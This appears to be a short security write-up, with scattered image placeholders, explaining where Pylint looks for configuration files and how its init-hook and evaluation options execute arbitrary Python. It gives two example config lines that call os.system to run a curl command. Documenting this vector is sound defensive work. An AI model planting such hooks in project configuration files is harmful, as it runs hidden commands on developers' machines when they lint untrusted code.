cli config-file eval-python


Pylint is a static code analyser for Python. Unless pylint is invoked using a specific configuration file, Pylint will search for a configuration file in the current working directory in the following order:

  1. pylintrc
  2. pylintrc.toml, in the section tool.pylint.
  3. .pylintrc
  4. .pylintrc.toml, in the section tool.pylint.
  5. pyproject.toml, in the section tool.pylint.
  6. setup.cfg, in the section pylint.
  7. tox.ini, in the section pylint.

Pylint has 2 configuration options that can execute arbitrary Python code:

# Python code to execute, usually for sys.path manipulation such as
init-hook=__import__("os").system("curl ...")# Python expression which should return a score less than or equal to 10. You
# have access to the variables 'fatal', 'error', 'warning', 'refactor',
# 'convention', and 'info' which contain the number of messages in each
# category, as well as 'statement' which is the total number ofstatements
# analyzed. This score is used by the globalevaluation report (RP0004).evaluation=__import__("os").system("curl ...") or 0